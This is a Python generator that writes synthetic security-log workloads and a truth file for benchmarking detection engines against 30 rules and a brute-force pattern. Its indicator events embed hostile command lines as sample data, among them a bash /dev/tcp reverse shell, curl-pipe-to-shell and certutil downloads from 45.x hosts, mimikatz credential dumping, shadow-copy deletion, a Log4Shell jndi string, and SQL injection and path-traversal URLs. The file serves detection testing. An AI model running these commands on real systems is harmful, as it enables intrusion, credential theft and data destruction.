#!/usr/bin/env python3
"""gen_auth.py - seeded generator of the hornet-vs-SEC workload (standard library only).

  gen_auth.py --seed 1 --events 200000 --json out/auth.jsonl --text out/auth.log --truth out/truth.tsv
  gen_auth.py --mode keys --keys 1000000 --json out/keys.jsonl [--text out/keys.log]

Writes the SAME events twice, in the same order: as nested ECS JSON Lines (hornet) and as one
syslog-like text line each (SEC). Timestamps strictly increase (1 ms resolution in the shared
mode, 1 us in keys mode), so event order is arrival order.

Shared mode (--mode shared, the default): a mix of SSH logons (sshd), process starts (edr),
firewall connections (fw), DNS queries (named), proxy requests (squid) and file creations (edr).

- Background: benign values only; no background event matches any rule of sec_bench.hn or
  sec.conf. Each (user.name, source.ip) key has AT MOST 4 failed logons over the WHOLE stream,
  so neither the threshold nor the sequence can fire on background, whatever the window clock
  (SEC counts on arrival time, hornet on event time; with this bound the two cannot disagree).
- Single-event indicators: about --single-rate of the events are built to match one of the 30
  single-event rules (a few match two, on purpose: both engines must report both).
- Attacks: --attacks bursts of EXACTLY 5 failed logons for one user from a fresh source
  address (45.x.y.z, used by nothing else), spread over at most 3 minutes; --pair-percent of
  them are followed by a successful logon of the same user from the same source, at most 5
  minutes after the 5th failure (span first failure -> success <= 8 minutes < 10). The other
  bursts never see a success for their key. Exactly 5 failures: hornet's sliding window
  re-arms after firing, SEC's SingleWithThreshold stays quiet for the rest of its window;
  with 5 both fire exactly once per burst.

Keys mode (--mode keys): --keys distinct (user, source) keys, each with --per-key failed
logons (at most 4, so nothing fires), all within 9 minutes of event time: every key is live in
a 10-minute count window at the end of the stream.

Truth file (shared mode), tab-separated, timestamps as written in the events:
  single     RULE                      TS
  threshold  ssh_brute_force           TS_OF_1ST_FAILURE  TS_OF_5TH_FAILURE  USER  SOURCE_IP
  pair       brute_force_then_success  TS_OF_SUCCESS      USER  SOURCE_IP
"""
import argparse
import heapq
import json
import random
import sys
import time

T0_MS = 1715673600000  # 2024-05-14T08:00:00Z

FIRST = ["anna", "ben", "carla", "david", "emma", "felix", "greta", "hugo", "ines", "jonas", "katrin",
         "lukas", "mia", "noah", "olga", "paul", "rita", "sven", "tina", "uwe", "vera", "wim", "xenia",
         "yusuf", "zoe", "marc", "lea", "tom", "nina", "omar"]
LAST = ["keller", "schmidt", "meyer", "wagner", "becker", "hoffmann", "koch", "richter", "klein", "wolf",
        "neumann", "schwarz", "braun", "hartmann", "lange", "werner", "krause", "lehmann", "walter",
        "fischer", "weber", "bauer", "roth", "martin", "dubois", "rossi", "garcia", "smith", "jones"]
DEPT = ["fin", "hr", "eng", "ops", "sales", "it", "lab", "mkt", "legal", "sup"]

# ---- indicator values (what the 30 single-event rules look for) ----------------------------
SVC_USERS = ["svc_backup", "guest", "oracle"]                   # r11
C2_IPS = ["203.0.113.66", "198.51.100.23", "192.0.2.77", "203.0.113.201", "198.51.100.140"]  # r14
C2_PORTS = [4444, 1337, 31337, 6667]                             # r13
BAD_DOMAINS = ["update-microsoft-security.com", "login-office365-verify.com", "paypal-account-check.net",
               "dropbox-share-files.org", "cdn-jquery-libs.com"]  # r19
DYNDNS = [".duckdns.org", ".no-ip.org", ".ddns.net"]             # r18
MINING = ["pool.supportxmr.com", "xmr-eu1.nanopool.org", "minexmr.com", "gulf.moneroocean.stream.xmrpool.eu"]
SCANNER_UAS = ["Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
               "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
               "Mozilla/5.0 zgrab/0.x"]
RANSOM_EXT = ["locky", "WNCRY", "crypt", "encrypted"]

# ---- benign pools ---------------------------------------------------------------------------
# (parent, name, executable, command line); {u} user, {n} number. No value holds a double quote.
WIN_PROCS = [
    ("explorer.exe", "chrome.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe",
     r"chrome.exe --type=renderer --field-trial-handle={n}"),
    ("explorer.exe", "WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
     r"WINWORD.EXE /n C:\Users\{u}\Documents\report-{n}.docx"),
    ("explorer.exe", "EXCEL.EXE", r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
     r"EXCEL.EXE C:\Users\{u}\Downloads\budget-{n}.xlsx"),
    ("winword.exe", "splwow64.exe", r"C:\Windows\splwow64.exe", r"C:\Windows\splwow64.exe 12288 {n}"),
    ("services.exe", "svchost.exe", r"C:\Windows\System32\svchost.exe", r"svchost.exe -k netsvcs -p -s Schedule"),
    ("ccmexec.exe", "powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Windows\CCM\inventory-{n}.ps1"),
    ("explorer.exe", "cmd.exe", r"C:\Windows\System32\cmd.exe", r"cmd.exe /c C:\scripts\nightly.bat {n}"),
    ("services.exe", "certutil.exe", r"C:\Windows\System32\certutil.exe", r"certutil.exe -verify C:\certs\{u}-{n}.cer"),
    ("explorer.exe", "rundll32.exe", r"C:\Windows\System32\rundll32.exe", r"rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
    ("svchost.exe", "vssadmin.exe", r"C:\Windows\System32\vssadmin.exe", r"vssadmin.exe list shadows"),
    ("explorer.exe", "Teams.exe", r"C:\Users\{u}\AppData\Local\Microsoft\Teams\current\Teams.exe",
     r"Teams.exe --process-start-args --system-initiated {n}"),
    ("explorer.exe", "notepad.exe", r"C:\Windows\System32\notepad.exe", r"notepad.exe C:\Users\{u}\Desktop\notes-{n}.txt"),
]
LIN_PROCS = [
    ("systemd", "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd -D -R"),
    ("sshd", "bash", "/usr/bin/bash", "-bash"),
    ("cron", "sh", "/usr/bin/sh", "/bin/sh -c /usr/local/bin/backup.sh --job {n}"),
    ("bash", "curl", "/usr/bin/curl", "curl -s https://repo.acme-corp.com/health?id={n}"),
    ("bash", "python3", "/usr/bin/python3.11", "python3 /opt/app/manage.py migrate --run {n}"),
    ("systemd", "nginx", "/usr/sbin/nginx", "nginx: worker process"),
    ("bash", "git", "/usr/bin/git", "git -C /srv/app pull --ff-only origin main"),
]
DOMAINS = ["microsoft.com", "office365.com", "google.com", "github.com", "slack.com", "zoom.us",
           "amazonaws.com", "windowsupdate.com", "acme-corp.com", "salesforce.com", "cloudflare.com",
           "okta.com", "atlassian.net", "apple.com", "wikipedia.org"]
SUBS = ["www", "login", "api", "cdn", "mail", "portal", "update", "static", "auth", "files"]
PATHS = ["/", "/index.html", "/api/v2/items", "/login", "/static/app.js", "/search", "/images/logo.png",
         "/download/installer.msi", "/en-us/docs", "/graphql"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
       "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
       "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)",
       "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.33"]
FILE_DIRS = [r"C:\Users\{u}\Documents", r"C:\Users\{u}\Downloads", r"C:\Users\{u}\AppData\Local\Temp",
             r"C:\Program Files\Acme", r"C:\Windows\Temp", r"C:\ProgramData\Microsoft"]
FILE_EXTS = ["docx", "xlsx", "pdf", "tmp", "log", "txt", "png", "csv", "dll", "exe", "zip", "lnk", "dmp"]
PUBLIC_FIRST = [13, 20, 23, 34, 35, 40, 52, 104, 140, 142, 151, 157, 199]  # never 45, 185, 192, 198, 203


def ts_str(ms):
    s, f = divmod(ms, 1000)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(s)) + ".%03dZ" % f


def q(s):
    """A JSON string literal."""
    return json.dumps(s)


# ---- the two renderings of each kind of event ----------------------------------------------
# An event is (kind, fields dict); render(ts, ev) -> (json line, text line), no newlines.
def render(ts, ev):
    k, e = ev
    if k == "auth":
        j = ('{"@timestamp":"%s","event":{"category":["authentication"],"type":["start"],"action":"ssh_login",'
             '"outcome":"%s","dataset":"system.auth"},"host":{"name":%s},"process":{"name":"sshd","pid":%d},'
             '"user":{"name":%s},"source":{"ip":"%s","port":%d}}'
             % (ts, e["outcome"], q(e["host"]), e["pid"], q(e["user"]), e["ip"], e["port"]))
        t = "%s %s sshd[%d]: %s password for %s from %s port %d ssh2" % (
            ts, e["host"], e["pid"], "Accepted" if e["outcome"] == "success" else "Failed", e["user"], e["ip"], e["port"])
    elif k == "proc":
        j = ('{"@timestamp":"%s","event":{"category":["process"],"type":["start"],"action":"process-started",'
             '"dataset":"endpoint.process"},"host":{"name":%s},"user":{"name":%s},"process":{"pid":%d,"name":%s,'
             '"executable":%s,"command_line":%s,"parent":{"name":%s}}}'
             % (ts, q(e["host"]), q(e["user"]), e["pid"], q(e["name"]), q(e["exe"]), q(e["cmd"]), q(e["parent"])))
        t = '%s %s edr[%d]: process-started user=%s parent=%s name=%s exe="%s" cmd="%s"' % (
            ts, e["host"], e["pid"], e["user"], e["parent"], e["name"], e["exe"], e["cmd"])
    elif k == "net":
        j = ('{"@timestamp":"%s","event":{"category":["network"],"type":["connection"],"action":"connection-allowed",'
             '"dataset":"firewall"},"host":{"name":%s},"network":{"transport":"tcp"},"source":{"ip":"%s","port":%d},'
             '"destination":{"ip":"%s","port":%d}}'
             % (ts, q(e["host"]), e["src"], e["sport"], e["dst"], e["dport"]))
        t = "%s %s fw[%d]: connection-allowed proto=tcp src=%s sport=%d dst=%s dport=%d" % (
            ts, e["host"], e["pid"], e["src"], e["sport"], e["dst"], e["dport"])
    elif k == "dns":
        j = ('{"@timestamp":"%s","event":{"category":["network"],"type":["protocol"],"action":"dns-query",'
             '"dataset":"dns"},"host":{"name":%s},"source":{"ip":"%s"},"dns":{"question":{"name":%s,"type":"%s"},'
             '"response_code":"NOERROR"}}' % (ts, q(e["host"]), e["src"], q(e["name"]), e["type"]))
        t = "%s %s named[%d]: query src=%s name=%s type=%s rcode=NOERROR" % (
            ts, e["host"], e["pid"], e["src"], e["name"], e["type"])
    elif k == "web":
        j = ('{"@timestamp":"%s","event":{"category":["web"],"type":["access"],"action":"http-request",'
             '"dataset":"proxy"},"host":{"name":%s},"source":{"ip":"%s"},"user":{"name":%s},"url":{"original":%s},'
             '"http":{"request":{"method":"%s"},"response":{"status_code":%d}},"user_agent":{"original":%s}}'
             % (ts, q(e["host"]), e["src"], q(e["user"]), q(e["url"]), e["method"], e["status"], q(e["ua"])))
        t = '%s %s squid[%d]: src=%s user=%s method=%s status=%d url=%s ua="%s"' % (
            ts, e["host"], e["pid"], e["src"], e["user"], e["method"], e["status"], e["url"], e["ua"])
    elif k == "file":
        j = ('{"@timestamp":"%s","event":{"category":["file"],"type":["creation"],"action":"file-created",'
             '"dataset":"endpoint.file"},"host":{"name":%s},"user":{"name":%s},"process":{"name":%s},'
             '"file":{"path":%s,"name":%s,"extension":%s}}'
             % (ts, q(e["host"]), q(e["user"]), q(e["proc"]), q(e["path"]), q(e["fname"]), q(e["ext"])))
        t = '%s %s edr[%d]: file-created user=%s process=%s path="%s" ext=%s' % (
            ts, e["host"], e["pid"], e["user"], e["proc"], e["path"], e["ext"])
    else:
        raise ValueError(k)
    return j, t


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        r = self.r
        self.users = ["%s.%s%d" % (r.choice(FIRST), r.choice(LAST), i) for i in range(6000)]
        self.hosts = ["%s-%s-%04d" % ("lnx" if i % 5 == 4 else "ws", DEPT[i % 10], i) for i in range(2000)]
        self.lin_hosts = [h for h in self.hosts if h.startswith("lnx")]
        self.win_hosts = [h for h in self.hosts if h.startswith("ws")]
        # internal sources: a pool, so that (user, source) keys repeat now and then
        self.int_ips = ["10.%d.%d.%d" % (r.randrange(1, 60), r.randrange(256), r.randrange(1, 255)) for _ in range(20000)]
        # each user logs on from two usual sources most of the time, so failures pile up on
        # some keys and the 4-per-key bound is exercised
        self.home = {u: (r.choice(self.int_ips), r.choice(self.int_ips)) for u in self.users}
        self.fails = {}  # (user, ip) -> failed logons so far (background and indicators; attacks are apart)

    # ---- helpers
    def pid(self):
        return self.r.randrange(300, 65000)

    def public_ip(self):
        r = self.r
        return "%d.%d.%d.%d" % (r.choice(PUBLIC_FIRST), r.randrange(256), r.randrange(256), r.randrange(1, 255))

    def caseflip(self, s):
        """s in a random one of lower, upper, or as is (for the case-insensitive rules)."""
        c = self.r.randrange(3)
        return s.lower() if c == 0 else s.upper() if c == 1 else s

    def auth(self, user, ip, outcome, host=None):
        """A background (or indicator) logon; failures respect the 4-per-key bound: when the key
        is full, another internal source is taken."""
        if outcome == "failure":
            while self.fails.get((user, ip), 0) >= 4:
                ip = self.r.choice(self.int_ips)
            self.fails[(user, ip)] = self.fails.get((user, ip), 0) + 1
        return ("auth", {"host": host or self.r.choice(self.lin_hosts), "pid": self.pid(), "user": user, "ip": ip,
                         "port": self.r.randrange(1024, 65535), "outcome": outcome})

    def proc(self, parent, name, exe, cmd, user=None, linux=False):
        u = user or self.r.choice(self.users)
        n = self.r.randrange(100000)
        return ("proc", {"host": self.r.choice(self.lin_hosts if linux else self.win_hosts), "pid": self.pid(),
                         "user": u, "parent": parent, "name": name, "exe": exe.format(u=u, n=n),
                         "cmd": cmd.format(u=u, n=n)})

    def net(self, src, dst, dport):
        return ("net", {"host": "fw-%02d" % self.r.randrange(1, 5), "pid": self.pid(), "src": src,
                        "sport": self.r.randrange(1024, 65535), "dst": dst, "dport": dport})

    def dns(self, name, qtype):
        return ("dns", {"host": self.r.choice(self.hosts), "pid": self.pid(), "src": self.r.choice(self.int_ips),
                        "name": name, "type": qtype})

    def web(self, url, ua, status=200, method="GET"):
        return ("web", {"host": "proxy-%02d" % self.r.randrange(1, 3), "pid": self.pid(),
                        "src": self.r.choice(self.int_ips), "user": self.r.choice(self.users), "method": method,
                        "status": status, "url": url, "ua": ua})

    def file(self, path, ext, proc="explorer.exe", user=None):
        u = user or self.r.choice(self.users)
        path = path.format(u=u)
        return ("file", {"host": self.r.choice(self.win_hosts), "pid": self.pid(), "user": u, "proc": proc,
                         "path": path, "fname": path.rsplit("\\", 1)[-1], "ext": ext})

    # ---- background: matches no rule
    def background(self):
        r = self.r
        x = r.random()
        if x < 0.30:  # SSH logons, 20% failures
            u = r.choice(self.users)
            y = r.random()
            ip = r.choice(self.home[u]) if y < 0.85 else r.choice(self.int_ips) if y < 0.95 else self.public_ip()
            return self.auth(u, ip, "failure" if r.random() < 0.2 else "success")
        if x < 0.55:  # process starts, one in five on Linux
            if r.random() < 0.2:
                return self.proc(*r.choice(LIN_PROCS), linux=True)
            return self.proc(*r.choice(WIN_PROCS))
        if x < 0.75:  # firewall: internal -> internal admin ports, internal -> internet web ports
            src = r.choice(self.int_ips)
            y = r.random()
            if y < 0.4:
                return self.net(src, r.choice(self.int_ips), r.choice([445, 3389, 22, 53, 135]))
            if y < 0.9:
                return self.net(src, self.public_ip(), r.choice([443, 443, 80, 8080]))
            return self.net(self.public_ip(), r.choice(self.int_ips), 443)  # inbound web
        if x < 0.87:  # DNS: usual names, some TXT, some long CDN labels (type A)
            y = r.random()
            if y < 0.05:
                return self.dns("_dmarc." + r.choice(DOMAINS), "TXT")
            if y < 0.10:
                return self.dns("%032x.cdn.cloudfront-edge.net" % r.getrandbits(128), "A")
            return self.dns("%s.%s" % (r.choice(SUBS), r.choice(DOMAINS)), r.choice(["A", "A", "A", "AAAA"]))
        if x < 0.97:  # proxy
            url = "https://%s.%s%s?id=%d&lang=en" % (r.choice(SUBS), r.choice(DOMAINS), r.choice(PATHS), r.randrange(10 ** 6))
            return self.web(url, r.choice(UAS), r.choice([200, 200, 200, 304, 302, 404, 403, 500]),
                            r.choice(["GET", "GET", "POST", "HEAD"]))
        d = r.choice(FILE_DIRS)
        ext = r.choice(FILE_EXTS)
        return self.file("%s\\%s-%d.%s" % (d, r.choice(LAST), r.randrange(10000), ext), ext,
                         r.choice(["explorer.exe", "chrome.exe", "outlook.exe", "winword.exe", "msiexec.exe"]))

    # ---- indicators: (event, [rules it matches])
    def indicator(self, rule):
        r, cf = self.r, self.caseflip
        if rule == 1:
            return self.proc(r.choice(["explorer.exe", "cmd.exe"]), cf("mimikatz.exe"), r"C:\Users\{u}\Downloads\mimikatz.exe",
                             "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit"), [1]
        if rule == 2:
            flag = r.choice(["-enc", "-EncodedCommand", "-ENC"])
            return self.proc(r.choice(["explorer.exe", "cmd.exe"]), cf("powershell.exe"),
                             r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "powershell.exe -nop -w hidden %s SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA{n}" % flag), [2]
        if rule == 3:
            parent = cf(r.choice(["winword.exe", "excel.exe", "powerpnt.exe"]))
            if r.random() < 0.2:  # also an encoded PowerShell: two rules
                return self.proc(parent, "powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                                 "powershell.exe -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA{n}"), [2, 3]
            name = r.choice(["cmd.exe", "wscript.exe", "mshta.exe", "CMD.EXE"])
            return self.proc(parent, name, r"C:\Windows\System32\%s" % name, "%s /c start C:\\Users\\{u}\\invoice-{n}.vbs" % name), [3]
        if rule == 4:
            return self.proc("cmd.exe", cf("certutil.exe"), r"C:\Windows\System32\certutil.exe",
                             r"certutil.exe -URLCache -split -f http://45.77.1.9/p.exe C:\Windows\Temp\p{n}.exe"), [4]
        if rule == 5:
            return self.proc("cmd.exe", "vssadmin.exe", r"C:\Windows\System32\vssadmin.exe",
                             r.choice(["vssadmin.exe Delete Shadows /All /Quiet", "vssadmin delete shadows /for=c:"])), [5]
        if rule == 6:
            return self.proc("explorer.exe", "rundll32.exe", r"C:\Windows\System32\rundll32.exe",
                             r"rundll32.exe JavaScript:\..\mshtml,RunHTMLApplication ;document.write({n})"), [6]
        if rule == 7:
            return self.proc("bash", "bash", "/usr/bin/bash", "bash -i >& /dev/tcp/45.9.%d.%d/4444 0>&1"
                             % (r.randrange(256), r.randrange(1, 255)), linux=True), [7]
        if rule == 8:
            tool, sh = r.choice(["curl -fsSL", "wget -qO-"]), r.choice(["sh", "bash", " sh"])
            return self.proc("bash", "sh", "/usr/bin/sh", "sh -c %s http://45.9.3.%d/i.sh |%s" % (tool, r.randrange(1, 255), sh),
                             linux=True), [8]
        if rule == 9:
            return self.proc(r.choice(["w3wp.exe", "httpd", "nginx", "php-fpm"]), r.choice(["whoami.exe", "whoami", "net.exe", "systeminfo.exe"]),
                             r"C:\Windows\System32\whoami.exe", "whoami /all"), [9]
        if rule == 10:
            return self.proc("cmd.exe", "svc{n}.exe".format(n=r.randrange(100)), cf(r"C:\Users\Public\svc.exe"),
                             r"C:\Users\Public\svc.exe -k"), [10]
        if rule == 11:
            return self.auth(r.choice(SVC_USERS), r.choice(self.int_ips), "success"), [11]
        if rule == 12:
            user, outcome = r.choice(self.users), r.choice(["success", "failure"])
            ip = "185.220.101.%d" % r.randrange(1, 255)
            while outcome == "failure" and self.fails.get((user, ip), 0) >= 4:  # keep the 4-per-key bound
                ip = "185.220.101.%d" % r.randrange(1, 255)
            return self.auth(user, ip, outcome), [12]
        if rule == 13:
            return self.net(r.choice(self.int_ips), self.public_ip(), r.choice(C2_PORTS)), [13]
        if rule == 14:
            return self.net(r.choice(self.int_ips), r.choice(C2_IPS), 443), [14]
        if rule == 15:
            return self.net(r.choice(self.int_ips), self.public_ip(), 445), [15]
        if rule == 16:
            return self.net(self.public_ip(), r.choice(self.int_ips), 3389), [16]
        if rule == 17:
            return self.net(r.choice(self.int_ips), "185.220.101.%d" % r.randrange(1, 255), r.choice([9001, 443])), [17]
        if rule == 18:
            return self.dns("h%d%s" % (r.randrange(1000), cf(r.choice(DYNDNS))), "A"), [18]
        if rule == 19:
            return self.dns(cf(r.choice(BAD_DOMAINS)), "A"), [19]
        if rule == 20:
            return self.dns("%040x.t.exfil-dns.net" % r.getrandbits(160), r.choice(["TXT", "NULL"])), [20]
        if rule == 21:
            return self.dns(cf(r.choice(MINING)), "A"), [21]
        if rule == 22:
            return self.web("https://shop.acme-corp.com/item?id=1%27%20AND%201=1", cf("sqlmap/1.7.2#stable (https://sqlmap.org)"), 500), [22]
        if rule == 23:
            return self.web("https://www.acme-corp.com/admin/", r.choice(SCANNER_UAS), 404), [23]
        if rule == 24:
            return self.web(r.choice(["https://portal.acme-corp.com/static/..%2f..%2f..%2fwindows/win.ini",
                                      "https://portal.acme-corp.com/files/../../../boot.ini",
                                      "https://portal.acme-corp.com/img/..%2F..%2Fweb.config"]), r.choice(UAS), 403), [24]
        if rule == 25:
            return self.web("https://intranet.acme-corp.com/download?file=/etc/passwd", r.choice(UAS), 200), [25]
        if rule == 26:
            return self.web("https://www.acme-corp.com/uploads%s?cmd=id" % cf(r.choice(["/shell.php", "/cmd.jsp", "/c99.php"])),
                            r.choice(UAS), 200, "POST"), [26]
        if rule == 27:
            jndi = "${%s:ldap://45.7.%d.%d/a}" % (cf("jndi"), r.randrange(256), r.randrange(1, 255))
            if r.random() < 0.5:
                return self.web("https://www.acme-corp.com/?q=" + jndi, r.choice(UAS), 400), [27]
            return self.web("https://www.acme-corp.com/", jndi, 400), [27]
        if rule == 28:
            ext = r.choice(RANSOM_EXT)
            return self.file(r"C:\Users\{u}\Documents\report-%d.docx.%s" % (r.randrange(10000), ext), ext, "svc.exe"), [28]
        if rule == 29:
            u = r.choice(self.users)
            d = cf(r"C:\Users\%s\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup" % u)
            return self.file(d + r"\updater.lnk", "lnk", "wscript.exe", user=u), [29]
        if rule == 30:
            return self.file(r.choice([r"C:\Windows\Temp\lsass.dmp", r"C:\Users\{u}\AppData\Local\Temp\LSASS.DMP"]), "dmp",
                             "procdump64.exe"), [30]
        raise ValueError(rule)


RULES = ["r01_mimikatz", "r02_powershell_encoded", "r03_office_spawns_shell", "r04_certutil_download",
         "r05_shadow_copy_delete", "r06_rundll32_javascript", "r07_bash_dev_tcp", "r08_download_pipe_shell",
         "r09_webserver_recon", "r10_exec_from_public", "r11_service_account_logon", "r12_ssh_from_tor",
         "r13_c2_port", "r14_c2_address", "r15_smb_to_internet", "r16_rdp_from_internet", "r17_tor_destination",
         "r18_dynamic_dns", "r19_bad_domain", "r20_dns_tunnel", "r21_mining_pool", "r22_sqlmap",
         "r23_scanner_user_agent", "r24_path_traversal", "r25_etc_passwd", "r26_webshell", "r27_log4shell",
         "r28_ransomware_extension", "r29_startup_folder", "r30_lsass_dump"]


def shared(a, jout, tout, truth):
    g = Gen(a.seed)
    r = g.r
    n = a.events
    span_ms = max(n * 10, 3600 * 1000)      # the stream's event-time length: >= 1 h
    step = span_ms / n                       # mean gap between events
    # attacks: scheduled (time, seq, event, tag) on a heap; they take the slot whose time reaches theirs
    pending, seq = [], 0
    bursts = []
    npair = 0
    for k in range(a.attacks):
        user = r.choice(g.users + ["root", "admin", "ubuntu", "test"])
        ip = "45.%d.%d.%d" % (10 + k // 62500, (k // 250) % 250, k % 250 + 1)
        start = r.uniform(0, span_ms * 0.95 - 600 * 1000)
        offs = sorted(r.uniform(0, 180 * 1000) for _ in range(5))
        b = {"user": user, "ip": ip, "fail_ts": [], "ok_ts": None, "pair": r.random() * 100 < a.pair_percent}
        bursts.append(b)
        for o in offs:
            ev = ("auth", {"host": r.choice(g.lin_hosts), "pid": g.pid(), "user": user, "ip": ip,
                           "port": r.randrange(1024, 65535), "outcome": "failure"})
            heapq.heappush(pending, (start + o, seq, ev, (k, "fail")))
            seq += 1
        if b["pair"]:
            npair += 1
            ev = ("auth", {"host": r.choice(g.lin_hosts), "pid": g.pid(), "user": user, "ip": ip,
                           "port": r.randrange(1024, 65535), "outcome": "success"})
            heapq.heappush(pending, (start + offs[-1] + r.uniform(2000, 300 * 1000), seq, ev, (k, "ok")))
            seq += 1
    if len(pending) > n:
        sys.exit("gen_auth: more attack events than --events")
    t = T0_MS
    singles = []
    for i in range(n):
        t += max(1, int(r.uniform(0.5, 2 * step - 0.5)))  # strictly increasing, 1 ms resolution
        ts = ts_str(t)
        # an attack event when its time has come, or when the remaining slots are needed for them
        if pending and (pending[0][0] <= t - T0_MS or n - i <= len(pending)):
            _, _, ev, (k, what) = heapq.heappop(pending)
            if what == "fail":
                bursts[k]["fail_ts"].append(ts)
            else:
                bursts[k]["ok_ts"] = ts
        elif r.random() < a.single_rate:
            ev, rules = g.indicator(r.randrange(1, 31))
            for x in rules:
                singles.append((RULES[x - 1], ts))
        else:
            ev = g.background()
        j, tx = render(ts, ev)
        jout.write(j + "\n")
        tout.write(tx + "\n")
    for rule, ts in singles:
        truth.write("single\t%s\t%s\n" % (rule, ts))
    for b in bursts:
        assert len(b["fail_ts"]) == 5
        truth.write("threshold\tssh_brute_force\t%s\t%s\t%s\t%s\n" % (b["fail_ts"][0], b["fail_ts"][4], b["user"], b["ip"]))
        if b["pair"]:
            truth.write("pair\tbrute_force_then_success\t%s\t%s\t%s\n" % (b["ok_ts"], b["user"], b["ip"]))
    worst = max(g.fails.values()) if g.fails else 0
    print("gen_auth: %d events, %d single-rule indicators, %d bursts (%d followed by a success), "
          "%d background failure keys (at most %d failures each)" % (n, len(singles), a.attacks, npair, len(g.fails), worst),
          file=sys.stderr)


def keys(a, jout, tout):
    """Distinct (user, source) keys, all live at once: every event within 9 minutes."""
    r = random.Random(a.seed)
    nk, per = a.keys, a.per_key
    if not 1 <= per <= 4:
        sys.exit("gen_auth: --per-key must be 1..4 (5 would fire)")
    nusers = 20000
    users = ["%s.%s%d" % (r.choice(FIRST), r.choice(LAST), i) for i in range(nusers)]
    order = list(range(nk))
    n = nk * per
    gap_us = 540 * 10 ** 6 // n  # 9 minutes of event time in all
    if gap_us < 1:
        sys.exit("gen_auth: too many events for 9 minutes at 1 us resolution")
    t_us = T0_MS * 1000
    hosts = ["lnx-%s-%04d" % (DEPT[i % 10], i) for i in range(400)]
    for _ in range(per):
        r.shuffle(order)
        for k in order:
            # key k: user k mod 20000, source 10.a.b.c from k div 20000 (distinct per user)
            j = k // nusers
            ip = "10.%d.%d.%d" % (j // 250, j % 250 + 1, k % 250 + 1)
            t_us += gap_us
            s, us = divmod(t_us, 10 ** 6)
            ts = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(s)) + ".%06dZ" % us
            ev = ("auth", {"host": hosts[k % 400], "pid": 1000 + k % 60000, "user": users[k % nusers], "ip": ip,
                           "port": 1024 + k % 60000, "outcome": "failure"})
            jl, tl = render(ts, ev)
            jout.write(jl + "\n")
            if tout:
                tout.write(tl + "\n")
    print("gen_auth: %d events, %d distinct keys, %d failures each, all within 9 minutes" % (n, nk, per), file=sys.stderr)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--mode", choices=["shared", "keys"], default="shared")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--events", type=int, default=200000, help="shared mode: lines in all")
    ap.add_argument("--attacks", type=int, default=None, help="shared mode: bursts (default events/400)")
    ap.add_argument("--pair-percent", type=float, default=50, help="shared mode: bursts followed by a success")
    ap.add_argument("--single-rate", type=float, default=0.01, help="shared mode: share of single-rule indicators")
    ap.add_argument("--keys", type=int, default=1000000, help="keys mode: distinct keys")
    ap.add_argument("--per-key", type=int, default=1, help="keys mode: failures per key (1..4)")
    ap.add_argument("--json", required=True)
    ap.add_argument("--text")
    ap.add_argument("--truth")
    a = ap.parse_args()
    if a.attacks is None:
        a.attacks = max(1, a.events // 400)
    jout = open(a.json, "w", encoding="utf-8", buffering=1 << 20)
    tout = open(a.text, "w", encoding="utf-8", buffering=1 << 20) if a.text else None
    if a.mode == "shared":
        if not tout or not a.truth:
            sys.exit("gen_auth: shared mode needs --text and --truth")
        with open(a.truth, "w", encoding="utf-8") as truth:
            shared(a, jout, tout, truth)
    else:
        keys(a, jout, tout)
    jout.close()
    if tout:
        tout.close()


if __name__ == "__main__":
    main()
